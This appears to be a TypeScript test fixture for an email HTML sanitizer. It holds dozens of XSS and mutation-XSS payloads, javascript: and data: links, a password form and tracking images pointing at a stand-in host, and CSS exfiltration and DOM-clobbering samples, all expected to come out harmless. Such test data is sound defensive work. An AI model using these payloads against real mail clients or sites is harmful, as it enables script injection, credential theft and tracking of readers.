import { type CorpusMail, htmlMail } from './mail-builder.ts';

const evil = 'https://malo.example';
/** Markup that has to come out harmless; «hola» has to stay readable. */
const markup: Record<string, string> = {
  script: 'hola<script>alert(1)</script>',
  'script in pieces': 'hola<scr<script>x</script>ipt>alert(1)</script>',
  'script upper case': 'hola<SCRIPT SRC=//malo.example></SCRIPT>',
  'event handler': '<p onclick=alert(1) ONERROR="x">hola</p>',
  'handler after a slash': '<img/onerror=alert(1)/src=x>hola',
  'svg onload': 'hola<svg/onload=alert(1)>',
  'svg with a link': 'hola<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  'svg animate': '<svg><animate onbegin=alert(1) attributeName=x></svg>hola',
  'svg use': '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>hola',
  'mathml link': '<math href="javascript:alert(1)">hola</math>',
  'mathml mutation':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>hola',
  'noscript mutation': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>hola',
  'style mutation': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>hola',
  'template mutation':
    '<template><s><template><s><img src=x onerror=alert(1)>@</template></s></template>hola',
  'form mutation':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form></mtext></math>hola',
  'title mutation': '<title><a title="</title><img src=x onerror=alert(1)>"></title>hola',
  'textarea mutation': '<textarea><img title="</textarea><img src=x onerror=alert(1)>">hola',
  'xmp mutation': '<xmp><p title="</xmp><svg/onload=alert(1)>">hola',
  'comment mutation': 'hola<!--><img src=x onerror=alert(1)>-->',
  'comment that never ends': 'hola<!-- <img src=x onerror=alert(1)>',
  'conditional comment': 'hola<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
  cdata: 'hola<![CDATA[<img src=x onerror=alert(1)>]]>',
  'javascript link': '<a href="javascript:alert(1)">hola</a>',
  'javascript link in pieces': '<a href="java\tscr\nipt:alert(1)">hola</a>',
  'javascript link in entities': '<a href="&#x6A;avascript&colon;alert(1)">hola</a>',
  'javascript link behind a control': '<a href="\x01javascript:alert(1)">hola</a>',
  'vbscript link': '<a href="vbscript:msgbox(1)">hola</a>',
  'data link': '<a href="data:text/html,<script>alert(1)</script>">hola</a>',
  'blob link': '<a href="blob:https://x/1">hola</a>',
  'file link': '<a href="file:///etc/passwd">hola</a>',
  form: `<form action=${evil}><input name=clave type=password><button formaction=${evil}>hola</button></form>`,
  'meta refresh': `<meta http-equiv=refresh content="0;url=${evil}">hola`,
  base: `<base href="${evil}/"><a href="/x">hola</a>`,
  link: `<link rel=stylesheet href=${evil}>hola`,
  iframe: `<iframe src=${evil} srcdoc="<script>alert(1)</script>"></iframe>hola`,
  object: `<object data=${evil}></object><embed src=${evil}>hola`,
  media: `<video src=${evil} poster=${evil} onerror=alert(1)></video><audio src=${evil}></audio>hola`,
  'style sheet': `<style>@import url(${evil}); body{background:url(${evil})}</style>hola`,
  'style url': `<p style="background:url(${evil});list-style-image:url(${evil})">hola</p>`,
  'style url in escapes': `<p style="background:u\\72l(${evil})">hola</p>`,
  'style overlay':
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;opacity:.1">hola</div>',
  'style expression': '<p style="width:expression(alert(1));behavior:url(x);-moz-binding:url(x)">hola</p>',
  'remote image': `<img src="${evil}/p.gif" width=1 height=1>hola`,
  'remote image without protocol': '<img src="//malo.example/p.gif">hola',
  'remote image by srcset': `<img srcset="${evil}/a 2x"><picture><source srcset=${evil}></picture>hola`,
  'remote background': `<table background=${evil}><tr><td background=${evil}>hola</td></tr></table>`,
  'svg as data': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">hola',
  'ids and names': '<p id=location name=cookie class=modal>hola</p><a name=x id=y>x</a>',
  'clobbering form': '<form id=document name=body><input id=cookie></form>hola',
  marquee: '<marquee onstart=alert(1)>hola</marquee>',
  details: '<details open ontoggle=alert(1)>hola</details>',
  dialog: '<dialog open>hola</dialog>',
  'custom element': '<x-y onclick=alert(1)>hola</x-y>',
  'null in a tag': '<scr\0ipt>alert(1)</scr\0ipt>hola',
  'quotes out of order': '<img alt="`><script>alert(1)</script>`">hola',
  'attribute without end': 'hola<img alt="<script>alert(1)</script>',
};

/** Mail whose HTML attacks whoever opens it. */
export const hostileMails: CorpusMail[] = Object.entries(markup).map(([name, html]) => ({
  name: `html ${name}`,
  raw: () => htmlMail(`<html><body>${html}</body></html>`),
  // What never closes may swallow the text after it, as it does in a browser.
  expected:
    /never ends|attribute without end|textarea|xmp|title mutation|form mutation|mathml mutation|style mutation/.test(
      name,
    )
      ? {}
      : { text: ['hola'] },
}));
